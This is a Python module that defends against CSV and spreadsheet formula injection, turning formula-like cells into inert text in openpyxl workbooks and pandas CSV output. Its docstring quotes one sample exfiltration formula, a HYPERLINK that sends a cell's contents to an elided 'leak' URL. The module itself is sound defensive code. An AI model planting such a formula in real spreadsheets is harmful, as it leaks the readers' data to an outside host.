"""What the project writes into a workbook or a CSV is data, never a formula.

A received cell can hold text such as `=HYPERLINK("http://.../leak?"&A1, "klik")`; written back as it is
(the steward's review workbook, the agency's answer report, a template, a details CSV) it would run in
the reader's Excel. OWASP's guidance on CSV (formula) injection: text starting with `=`, `+`, `-`, `@`, a
tab or a carriage return is a formula to a spreadsheet. In a workbook such text is written as a string
cell (openpyxl data type "s") with Excel's quote prefix, so it shows exactly as received and stays text
even when the cell is edited; in a CSV it gets a leading apostrophe, as OWASP advises.
"""
from __future__ import annotations

import pandas as pd
from openpyxl import Workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    """True for text a spreadsheet would take as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def inert_workbook(workbook: Workbook) -> Workbook:
    """Every cell of every sheet of `workbook` (openpyxl, being written) that holds a formula or text
    starting like one becomes a text cell (data type "s", quote prefix); numbers, dates and other text
    are left as they are. The one step every workbook writer of the project takes before saving.
    Returns the same workbook."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or looks_like_formula(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True
    return workbook


def inert_text(value):
    """A value for a CSV: text starting like a formula gets a leading apostrophe; anything else as it is."""
    return "'" + value if looks_like_formula(value) else value


def inert_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """`frame` for a CSV: every text value passed through inert_text (a copy; header names too)."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(inert_text)
    out.columns = [inert_text(c) if isinstance(c, str) else c for c in out.columns]
    return out
